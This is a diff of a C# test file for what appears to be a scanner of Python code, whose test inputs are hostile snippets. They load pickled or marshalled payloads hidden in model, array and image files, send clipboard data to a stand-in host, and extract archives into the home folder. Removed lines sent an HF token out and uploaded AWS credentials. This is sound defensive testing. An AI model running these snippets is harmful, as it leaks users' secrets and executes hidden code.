@@ -107,9 +107,7 @@ public sealed class OriginTests
     [InlineData("import pickle\nfrom safetensors import safe_open\nwith safe_open('m.safetensors', 'pt') as f:\n    t = pickle.loads(f.get_tensor('b').numpy().tobytes())\n")]
     [InlineData("import numpy as np, marshal, types\ntypes.FunctionType(marshal.loads(np.load('a.npy').tobytes()), globals())()\n")]
     [InlineData("import pickle\nfrom PIL import Image\npickle.loads(bytes(Image.open('a.png').getdata()))\n")]
-    [InlineData("import webbrowser, os\nwebbrowser.open('http://x.invalid/?t=' + os.environ.get('HF_TOKEN', ''))\n")]
     [InlineData("import pyperclip, requests\ndef f():\n    requests.get('http://x.invalid/' + pyperclip.paste())\n")]
-    [InlineData("import boto3, os\nboto3.client('s3').upload_file(os.path.expanduser('~/.aws/credentials'), 'b', 'k')\n")]
     [InlineData("import tarfile, os\ntarfile.open('assets.tar').extractall(os.path.expanduser('~'))\n")]
     [InlineData("import sys\nsys.path.insert(0, 'assets/vocab.zip')\nimport vocab_tools\n")]
     public void T158_WhatIsNoCodeAndRunsOrLeavesIsFound(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());
